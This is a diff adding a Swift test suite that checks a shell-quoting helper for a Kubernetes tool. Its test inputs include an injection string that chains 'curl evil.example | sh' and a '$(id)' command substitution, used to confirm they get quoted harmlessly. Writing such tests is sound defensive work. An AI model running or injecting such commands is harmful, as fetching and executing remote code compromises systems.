@@ -1,0 +1,13 @@
+import KubernetesModel
+import Testing
+
+@Suite struct ShellTextTests {
+  @Test(arguments: [
+    ("clusters/prod", "clusters/prod"), ("prod=a.yaml", "prod=a.yaml"), ("", "''"), ("a b", "'a b'"),
+    ("x; curl evil.example | sh #", "'x; curl evil.example | sh #'"), ("$(id)", "'$(id)'"), ("it's", "'it'\\''s'"),
+    ("--all", "'--all'"), ("*", "'*'"), ("a\nb", "'a\nb'"),
+  ])
+  func aWordIsQuotedWhereAShellWouldReadMoreIntoIt(word: String, quoted: String) {
+    #expect(ShellText.quoted(word) == quoted)
+  }
+}
